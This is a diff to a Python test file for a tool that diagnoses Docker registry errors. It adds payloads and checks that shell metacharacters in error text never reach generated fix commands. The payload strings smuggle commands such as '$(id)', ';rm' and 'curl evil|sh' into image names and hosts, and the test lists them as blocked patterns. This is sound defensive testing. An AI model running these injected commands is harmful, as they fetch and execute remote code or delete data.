@@ -15,6 +15,9 @@ PAYLOADS = [
     "docker push harbor`id`.corp:8443/team/api:1 -> unauthorized: authentication required",
     "pull access denied for evil$(id)/x;rm, repository does not exist or may require 'docker login'",
     'Failed to pull image "ghcr.io;curl evil|sh/acme/api:1": failed to fetch anonymous token: unexpected status: 401 Unauthorized',
+    # an undecided failure at another registry: the deciding check (decide_elsewhere) fills {host} too
+    'docker login harbor$(id).internal\nError response from daemon: Get "https://harbor`id`.internal/v2/": dial tcp: '
+    "lookup harbor`id`.internal on 10.0.0.2:53: no such host",
 ]
 
 
@@ -22,6 +25,8 @@ PAYLOADS = [
 def test_no_shell_metacharacters_reach_commands(text: str) -> None:
     d = diagnose(text)
     commands = [s.command or "" for s in d.fix] + [self_check_command(d) or ""]
+    if d.decisive_check is not None:
+        commands.append(d.decisive_check.command or "")
     for command in commands:
         for bad in ("$(id", "$({curl", "`", ";rm", "|sh", ";curl", "'1.2.3.4;"):
             assert bad not in command, (bad, command)
